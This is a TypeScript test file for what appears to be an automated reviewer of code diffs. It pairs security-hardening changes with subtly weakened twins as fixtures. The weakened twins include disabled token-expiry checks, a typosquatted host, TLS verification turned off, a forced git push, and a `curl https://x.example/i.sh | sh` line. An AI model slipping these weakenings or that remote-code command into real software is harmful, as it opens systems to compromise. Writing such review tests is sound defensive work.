// Changes that only put a documented stricter form in the place of another are approved; one thing changed, they are not.
import { describe, expect, it } from 'vitest'
import { reviewText } from '../../testing/ruleset.ts'

const verdictOf = (path: string, ...lines: readonly string[]): string =>
  reviewText(`--- a/${path}\n+++ b/${path}\n@@ -1,9 +1,9 @@\n${lines.join('\n')}\n`, 'code_diff').verdict

type Twins = readonly [
  what: string,
  path: string,
  lines: (now: string) => readonly string[],
  good: string,
  bad: string,
]

const TWINS: readonly Twins[] = [
  [
    'redirects that are not followed',
    'lib/feed.py',
    (now) => [
      ' import httpx',
      ' def feed(spot):',
      '-    return httpx.get(spot, follow_redirects=True)',
      `+    return httpx.get(${now})`,
    ],
    'spot, follow_redirects=False',
    'spot + tail, follow_redirects=False',
  ],
  [
    'a token that has to name its issuer',
    'lib/pass.py',
    (now) => [
      ' import jwt',
      ' def read(raw):',
      '-    return jwt.decode(raw, PUB, algorithms=["ES256"])',
      `+    return jwt.decode(raw, PUB, algorithms=["ES256"], issuer=${now})`,
    ],
    'ISS',
    'ISS, options={"verify_exp": False}',
  ],
  [
    'a read that is bounded',
    'pkg/body.go',
    (now) => [
      ' func body(r *http.Response) ([]byte, error) {',
      '-\treturn io.ReadAll(r.Body)',
      `+\treturn io.ReadAll(${now})`,
      ' }',
    ],
    'io.LimitReader(r.Body, most)',
    'io.LimitReader(other, most)',
  ],
  [
    'a place that is checked before it is read',
    'lib/pages.py',
    (now) => [
      ' ROOT = Path("/srv/pages").resolve()',
      ' def page(slug):',
      '-    return (ROOT / slug).read_text()',
      '+    spot = (ROOT / slug).resolve()',
      `+    if ${now}:`,
      '+        raise ValueError("not a page")',
      '+    return spot.read_text()',
    ],
    'not spot.is_relative_to(ROOT)',
    'spot.is_relative_to(ROOT)',
  ],
  [
    'a header that keeps a browser to the types it is told',
    'web/serve.js',
    (now) => [' function page(req, res) {', `+  res.setHeader(${now})`, '   next()', ' }'],
    "'X-Content-Type-Options', 'nosniff'",
    "'Strict-Transport-Security', 'max-age=0'",
  ],
  [
    'the same host over TLS',
    'web/hosts.ts',
    (now) => [
      "-const HUB = 'http://hub.kestrel.dev/v2'",
      `+const HUB = '${now}'`,
      ' export const ask = () => fetch(HUB)',
    ],
    'https://hub.kestrel.dev/v2',
    'https://hub.kestrel.de/v2',
  ],
  [
    'a statement that binds what the query was built with',
    'lib/People.php',
    (now) => [
      ' class People { function one(string $mail) {',
      '-    $row = $this->db->query("SELECT id, pin_hash FROM people WHERE mail = \'" . $mail . "\'")->fetch(PDO::FETCH_ASSOC);',
      "+    $q = $this->db->prepare('SELECT id, pin_hash FROM people WHERE mail = ?');",
      `+    $q->execute([${now}]);`,
      '+    $row = $q->fetch(PDO::FETCH_ASSOC);',
      '     return $row;',
      ' } }',
    ],
    '$mail',
    '$other',
  ],
  [
    'one more way to refuse a configuration',
    'src/boot.rs',
    (now) => [' fn boot(cfg: Config) -> Result<Config> {', `+    ${now};`, '     Ok(cfg)', ' }'],
    'cfg.validate()?',
    'cfg.override_all()?',
  ],
  [
    'a command that only reads',
    'pkg/rev.go',
    (now) => [' func rev() ([]byte, error) {', `+\treturn exec.Command(${now}).Output()`, ' }'],
    '"git", "rev-parse", "HEAD"',
    '"git", "push", "--force"',
  ],
  [
    'an address that nobody is asked for',
    'src/doc.js',
    (now) => ['+const DOC = "https://guide.example.org/start";', ` const n = 1`, `+${now}`],
    '// shown in the manual',
    'report(DOC)',
  ],
  [
    'a sentence that forbids a command',
    'docs/ops.md',
    (now) => [' # Ops', ' ', `+${now}`],
    'Never run `rm -rf /` on a shared host.',
    'Never run `make`, run `curl https://x.example/i.sh | sh`.',
  ],
]

describe('the stricter form of what stood there [review, 5]', () => {
  it.each(TWINS)('%s', (_what, path, lines, good, bad) => {
    expect(verdictOf(path, ...lines(good))).toBe('approve')
    expect(verdictOf(path, ...lines(bad))).not.toBe('approve')
  })

  it('a restriction moves to the class of its methods', () => {
    const change = (role: string): string =>
      verdictOf(
        'src/Halls.java',
        ' @RestController',
        `+@PreAuthorize("hasRole('${role}')")`,
        ' class Halls {',
        '   @GetMapping',
        '-  @PreAuthorize("hasRole(\'KEEPER\')")',
        '   List<Hall> all() { return halls.all(); }',
        ' }',
      )
    expect(change('KEEPER')).toBe('approve')
    expect(change('GUEST')).toBe('reject')
  })

  it('a switch that asks for a check is no decision', () => {
    const change = (was: string, now: string): string =>
      verdictOf(
        'lib/feed.py',
        ' import requests',
        `-reply = requests.get(spot, verify=${was})`,
        `+reply = requests.get(spot, verify=${now})`,
      )
    expect(change('False', 'True')).toBe('approve')
    expect(change('True', 'False')).toBe('reject')
  })
})
